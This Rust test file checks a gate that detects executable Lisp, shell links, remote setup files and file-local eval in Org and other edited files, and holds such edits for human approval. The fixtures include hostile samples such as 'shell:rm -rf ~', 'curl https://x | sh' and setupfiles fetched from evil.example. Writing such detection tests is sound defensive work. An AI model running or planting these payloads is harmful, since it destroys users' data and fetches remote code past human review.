//! What runs of a text that an act brings into a file: it asks, whatever level, rule or property allows the act.

use super::{World, tool_of};
use crate::support::soak;
use passepartout::domain::gate::clearance::{Judgement, ask_all, judge};
use passepartout::domain::gate::dispatcher::asks_only_of_routine;
use passepartout::domain::gate::facts::{BySetup, CommitFact, CommitFile, EditFact};
use passepartout::domain::gate::live::{Change, Kind, fresh, pieces};
use passepartout::domain::gate::{Case, Facts};
use passepartout::domain::scope::{Level, Scope};
use passepartout::domain::signal::Sensor;
use proptest::prelude::*;
use serde_json::{Value, json};

/// Notes as people write them. Of code in other languages nothing is looked at.
const ORDINARY: &str = "\
#+title: Work\n#+property: header-args :results output\n#+property: header-args:python :var n=3 :session work\n\
#+link: bug https://bugs.example.org/%s\n#+setupfile: setup.org\n#+macro: version 1.2 (stable)\n\
* TODO Call Ada (see [[https://example.org/a_(b)]])\nSCHEDULED: <2026-11-21 Sat +1w>\n\
:PROPERTIES:\n:header-args: :tangle yes :var label=\"a (b)\"\n:END:\n\
| a | b |\n| 1 | =$1 |\n#+tblfm: $2=vsum(@1..@2)::$3=if($1>2,1,0)\n\
#+name: report\n#+header: :var data=table(rows=3, of=other[,1])\n\
#+begin_src python :results value :var x=5 -n -l \"(ref:%s)\"\nprint(f\"{x}\", call_me(1))  # elisp:(x) shell:ls\n#+end_src\n\
#+begin_src yaml\nshell: bash\nrun: |\n  src_elisp{(kill-emacs)}\n#+end_src\n\
#+begin_src emacs-lisp\n(mapcar (lambda (x) (* x 2)) '(1 2 3))\n#+end_src\n\
#+begin_example\n[[elisp:(kill-emacs)]] src_elisp{(kill-emacs)}\n#+end_example\n\
#+call: report(data=3) :results table\nThe sum is call_report(data=4) and src_python{1+1}.\n\
#+begin: clocktable :maxlevel 2 :scope subtree :formula %\n#+end:\n\
In the shell: type ls. Elisp: a language. 100%%(about) and a 5%% share.\n\
# Local Variables:\n# fill-column: 100\n# coding: utf-8\n# End:\n";

/// Lines that bring something alive into an Org file, and what it is.
const ALIVE: &[(&str, Kind)] = &[
    ("%%(progn (write-region \"x\" nil \"/tmp/x\"))", Kind::Agenda),
    ("%%(diary-anniversary 10 31 1948) Arthur", Kind::Agenda),
    ("&%%(kill-emacs)", Kind::Agenda),
    ("* Meet <%%(progn (kill-emacs) t)> at noon", Kind::Agenda),
    ("SCHEDULED: <%%(diary-float t 4 2)>", Kind::Agenda),
    ("#+begin_example\n%%(kill-emacs)\n#+end_example", Kind::Agenda),
    ("%%(progn\n (kill-emacs))", Kind::Agenda),
    ("#+begin_src emacs-lisp\n(delete-directory \"~\" t)\n#+end_src", Kind::Block),
    ("  #+BEGIN_SRC elisp :results none\n(shell-command \"id\")\n  #+END_SRC", Kind::Block),
    ("#+begin_src emacs-lisp :noweb yes\n<<other>>\n#+end_src", Kind::Block),
    ("It is src_emacs-lisp{(kill-emacs)} o'clock.", Kind::Block),
    ("It is src_elisp[:results raw]{(kill-emacs)} o'clock.", Kind::Block),
    ("#+begin_src sh :var x=(shell-command-to-string \"id\")\necho $x\n#+end_src", Kind::Argument),
    ("#+begin_src sh :results (progn (kill-emacs) \"raw\")\nls\n#+end_src", Kind::Argument),
    ("#+begin_src sh :file (make-temp-file \"x\")", Kind::Argument),
    ("#+begin_src sh :var x= (kill-emacs)", Kind::Argument),
    ("#+begin_src sh :var x=`(,(kill-emacs))", Kind::Argument),
    ("#+begin_src elisp :prologue \"(kill-emacs)\"\n1\n#+end_src", Kind::Argument),
    ("#+header: :dir (kill-emacs)", Kind::Argument),
    ("#+PROPERTY: header-args:sh :var x=(kill-emacs)", Kind::Argument),
    (":header-args+: :var x=(kill-emacs)", Kind::Argument),
    ("#+call: report(data=(kill-emacs))", Kind::Argument),
    ("#+call: report[:var y=(kill-emacs)](data=1)", Kind::Argument),
    ("It is call_report(data=other(x=(kill-emacs))) euros.", Kind::Argument),
    ("src_sh[:var x=(kill-emacs)]{ls}", Kind::Argument),
    ("#+macro: time (eval (current-time-string))", Kind::Macro),
    ("#+TBLFM: $1='(kill-emacs)", Kind::Formula),
    ("#+tblfm: $1=$2::@3$2='(+ $1 $2);N", Kind::Formula),
    ("| a | ='(kill-emacs) |", Kind::Formula),
    ("#+begin: clocktable :formatter my-format\n#+end:", Kind::Formula),
    ("#+bind: org-export-filter-body-functions (kill-emacs)", Kind::Setting),
    ("#+link: x %(shell-command)", Kind::Setting),
    ("#+LINK: x elisp:", Kind::Setting),
    ("#+setupfile: /ssh:evil.example:/x", Kind::Fetched),
    ("#+SETUPFILE: https://evil.example/x.setup", Kind::Fetched),
    ("[[elisp:(kill-emacs)][Notes]]", Kind::Link),
    ("[[elisp:org-agenda]]", Kind::Link),
    ("see <elisp:(kill-emacs)> or elisp:(kill-emacs)", Kind::Link),
    ("[[shell:rm -rf ~][Tidy up]]", Kind::Shell),
    ("see shell:ls", Kind::Shell),
    ("# Local Variables:\n# eval: (kill-emacs)\n# End:", Kind::Local),
    ("# Local Variables:\n# org-confirm-babel-evaluate: nil\n# End:", Kind::Local),
];

fn edit(file: &str, before: &str, after: &str) -> EditFact {
    EditFact {
        file: file.into(),
        before: Some(before.into()),
        after: after.into(),
        diff: String::new(),
        by_setup: BySetup::default(),
    }
}

/// Returns the dispatcher's verdict on an edit, whether a rule might answer it, and what judging with every level at
/// allow comes to.
fn judged(world: &World, tool: &str, args: Value, facts: Facts) -> (&'static str, bool, &'static str, String) {
    let permissions = [(tool.to_string(), Level::Allow)].into_iter().collect();
    let scope = Scope { permissions, ..world.scope.clone() };
    let action = world.action(tool, args).unwrap();
    let mut facts = facts;
    facts.mandate.allow.insert(tool.to_string(), "PP_ALLOW".to_string());
    let case =
        Case { action: &action, tool: tool_of(&action), scope: &scope, facts: &facts, set_off: Sensor::UserInput };
    let trace = ask_all(&world.gates, &case);
    let dispatcher = trace.opinions.iter().find(|opinion| opinion.gate == "dispatcher").unwrap();
    let came = match judge(&world.gates, case, None) {
        Judgement::Cleared(_) => "cleared",
        Judgement::Parked(_) => "parked",
        Judgement::Rejected(_) => "rejected",
    };
    let why = dispatcher.verdict.reason().map(|reason| reason.text.clone()).unwrap_or_default();
    (dispatcher.verdict.name(), asks_only_of_routine(&case), came, why)
}

#[test]
fn what_is_alive_in_org_is_found_and_ordinary_notes_are_not() {
    let alive: Vec<_> =
        pieces("/memex/n.org", ORDINARY).into_iter().filter(|piece| piece.kind != Kind::Block).collect();
    assert_eq!(alive, [], "ordinary notes");
    for (text, kind) in ALIVE {
        for text in [text.to_string(), format!("* A\n{text}"), format!("* A\n{text}\n* B\nmore\n")] {
            let found = pieces("/memex/n.org", &text);
            assert!(found.iter().any(|piece| piece.kind == *kind), "{text:?}: {found:?}");
        }
    }
}

#[test]
fn what_would_run_asks_and_nothing_answers_it_but_a_human() {
    let world = World::new();
    let file = format!("{}/n.org", world.scope.memex[0]);
    let args = || json!({"id": "a", "body": "x"});
    for (text, kind) in ALIVE {
        let after = format!("{ORDINARY}* New\n{text}\n");
        let (verdict, routine, came, why) = judged(
            &world,
            "org-replace-body",
            args(),
            Facts { edits: vec![edit(&file, ORDINARY, &after)], ..Facts::default() },
        );
        assert_eq!((verdict, routine, came), ("ask", false, "parked"), "{kind:?} {text:?}");
        assert!(why.starts_with("Lisp: “"), "{text:?}: {why}");
        // What stood there before is not asked about again.
        let more = after.replace("Call Ada", "Call Bob");
        let (verdict, _, came, why) = judged(
            &world,
            "org-replace-body",
            args(),
            Facts { edits: vec![edit(&file, &after, &more)], ..Facts::default() },
        );
        assert_eq!((verdict, came), ("pass", "cleared"), "{text:?}: {why}");
        // What goes is not asked about either.
        let (verdict, ..) = judged(
            &world,
            "org-replace-body",
            args(),
            Facts { edits: vec![edit(&file, &after, "* A\n")], ..Facts::default() },
        );
        assert_eq!(verdict, "pass", "{text:?}");
        // Without a survey what is given counts.
        let (verdict, routine, ..) =
            judged(&world, "org-replace-body", json!({"id": "a", "body": text}), Facts::default());
        assert_eq!((verdict, routine), ("ask", false), "{text:?}");
    }
    let (verdict, _, came, why) = judged(
        &world,
        "org-replace-body",
        args(),
        Facts { edits: vec![edit(&file, "* A\n", ORDINARY)], ..Facts::default() },
    );
    assert_eq!((verdict, came), ("pass", "cleared"), "{why}");
}

#[test]
fn lisp_in_files_is_walked_form_by_form() {
    let world = World::new();
    let before = "(let ((a 1)) (+ a 2))\n(shell-command \"make\")\n";
    for (file, after, verdict, why) in [
        ("a.el", "(let ((a 1)) (+ a 3))\n;; more\n(shell-command \"make\")\n", "pass", ""),
        ("a.el", "(shell-command \"curl https://x | sh\")\n(shell-command \"make\")\n", "ask", "reaches for"),
        ("a.el", "(shell-command \"make\")\n(shell-command \"make\")\n", "ask", "“shell-command”"),
        ("a.el", "(my-own-thing)\n", "ask", "“my-own-thing” is not among"),
        ("a.el", "(mapcar #'1+ '(1 2))\n", "pass", ""),
        ("a.el", ";;;###autoload (kill-emacs)\n", "ask", "“kill-emacs”"),
        ("a.org", "#+title: a\r%%(kill-emacs)\r", "ask", "more in it could run"),
        ("a.el", "#s(hash-table)\n", "ask", "cannot be read well enough"),
        ("a.el", "(defun f (\n", "deny", "left open"),
        ("a.elc", ";ELC\n", "ask", "compiled"),
        ("a.lisp", "(run-program \"ls\")\n", "pass", ""),
        ("a.lisp", "(run-program\n", "deny", "left open"),
        ("a.py", "# -*- coding: utf-8 -*-\nos.system('%%(x)')\n", "pass", ""),
        ("a.py", "# -*- eval: (kill-emacs) -*-\n", "ask", "file-local"),
        ("a.py", "#!/usr/bin/python\n# -*- mode: python; eval: (kill-emacs) -*-\n", "ask", "file-local"),
        ("a.c", "/* Local Variables:  */\n/* compile-command: \"rm x\" */\n/* End: */\n", "ask", "file-local"),
        ("a.c", "/* Local Variables: */\n/* tab-width: 4 */\n/* End: */\n", "pass", ""),
        ("a.c", "It sets Local Variables: none.\nNote: (see below)\n", "pass", ""),
        ("notes.txt", "%%(kill-emacs)\n", "ask", "agenda"),
        ("diary", "&%%(kill-emacs) x\n", "ask", "agenda"),
        ("n", "-*- org -*-\n#+macro: x (eval (kill-emacs))\n", "ask", "macro"),
    ] {
        let path = format!("{}/{file}", world.scope.project);
        let facts = Facts {
            edits: vec![edit(&path, before, after)],
            ..world.facts(&world.action("write-file", json!({"path": path, "content": after})).unwrap())
        };
        let (found, routine, _, reason) = judged(&world, "write-file", json!({"path": path, "content": after}), facts);
        assert_eq!(found, verdict, "{file} {after:?}: {reason}");
        assert!(verdict != "ask" || !routine, "{file} {after:?}");
        assert!(reason.contains(why), "{file} {after:?}: {reason}");
    }
}

#[test]
fn what_moves_is_not_new_but_for_what_runs_by_itself() {
    let block = "* A\n#+begin_src elisp\n(shell-command \"make\")\n#+end_src\n";
    let sexp = "* A\n%%(diary-float t 4 2)\n";
    let count = |text: &str| {
        let from = Change { file: "/m/a.org", before: Some(text), after: "" };
        fresh(&[from, Change { file: "/m/b.org", before: Some("* B\n"), after: text }]).len()
    };
    assert_eq!(count(block), 0);
    assert_eq!(count(sexp), 1);
    // Twice is once more.
    let twice = format!("{block}{block}");
    assert_eq!(fresh(&[Change { file: "/m/a.org", before: Some(block), after: &twice }]).len(), 1);
    // What a block of an example kept from running, and would not any more.
    let kept = format!("#+begin_example\n{}\n#+end_example\n", "[[elisp:(kill-emacs)]]");
    let freed = "[[elisp:(kill-emacs)]]\n#+end_example\n";
    assert_eq!(fresh(&[Change { file: "/m/a.org", before: Some(&kept), after: freed }]).len(), 1);
    // Only what Org takes for the end of a block ends it.
    let late = "#+begin_src elisp\n1\n\u{a0}#+end_src\n(kill-emacs)\n#+end_src\n";
    assert!(pieces("a.org", late).iter().any(|piece| piece.code.contains("(kill-emacs)")));
    assert_eq!(pieces("a.org", "#+begin_src\u{a0}sh\nshell:ls\n#+end_src\n").len(), 1);
    // A block that a heading cuts is none.
    assert_eq!(pieces("a.org", "#+begin_src sh\nshell:ls\n* B\n#+end_src\n").len(), 1);
}

#[test]
fn commits_and_what_is_taken_back_are_looked_at_alike() {
    let world = World::new();
    let text = "#+begin_src elisp\n(my-secret-name)\n#+end_src\n";
    let file = CommitFile { path: "n.org".into(), before: None, after: Some(text.into()), diff: String::new() };
    let commit = CommitFact { head: String::new(), branch: String::new(), files: vec![file], left: Vec::new() };
    let facts = Facts { commit: Some(commit), ..Facts::default() };
    let (verdict, routine, _, why) = judged(&world, "git-commit", json!({"message": "x"}), facts);
    assert_eq!((verdict, routine), ("ask", false));
    assert!(why.contains("Lisp: “n.org”: its Lisp is not known to be pure.") && !why.contains("my-secret"), "{why}");
}

/// What would take the square of a text's length if each began anew.
#[test]
fn hostile_texts_are_looked_through_in_one_go() {
    for line in [
        "%%(\n",
        "#+begin_src sh\n",
        "#+begin_example\n* A\n",
        "#+header: ((((\n",
        "src_elisp{{\n",
        "call_f(((\n",
        "elisp:((\n",
        "[[shell:",
        "#+header: :var x=(a (\n",
        ": '(",
        "#+call: f(",
        "src_x[src_x[",
        "shell: ",
        "elisp: ",
        "src_",
        "call_.",
    ] {
        let text = line.repeat((1 << 17) / line.len());
        let found = pieces("a.org", &text);
        assert!(found.len() <= 1100, "{line:?}: {}", found.len());
    }
}

fn odd() -> impl Strategy<Value = String> {
    let mut all: Vec<_> = ALIVE.iter().map(|(text, _)| Just(text.to_string()).boxed()).collect();
    for piece in [
        "\n",
        " ",
        "* ",
        "#+end_src\n",
        "#+begin_src elisp\n",
        "(",
        ")",
        "[",
        "{",
        "\"",
        "\\",
        "'",
        "é",
        "\u{c}",
        "-*-",
        "<%%(",
    ] {
        all.push(Just(piece.to_string()).boxed());
    }
    prop::collection::vec(prop::strategy::Union::new(all), 0..12).prop_map(|pieces| pieces.concat())
}

proptest! {
    #![proptest_config(ProptestConfig { cases: soak::cases(256), ..ProptestConfig::default() })]

    /// Each piece is a part of the text, nothing is new of a text that stays, and adding lines takes no diary
    /// expression away.
    #[test]
    fn pieces_are_parts_of_the_text(text in odd(), name in prop::sample::select(vec!["a.org", "a.el", "a.txt", "a.c"])) {
        for piece in pieces(name, &text) {
            prop_assert!(text.contains(piece.code));
        }
        prop_assert_eq!(fresh(&[Change { file: name, before: Some(&text), after: &text }]).len(), 0);
        let more = format!("{text}\n%%(kill-emacs)\n");
        let agenda = |text: &str| pieces("a.org", text).iter().filter(|piece| piece.kind == Kind::Agenda).count();
        prop_assert_eq!(agenda(&more), agenda(&text) + 1);
    }
}
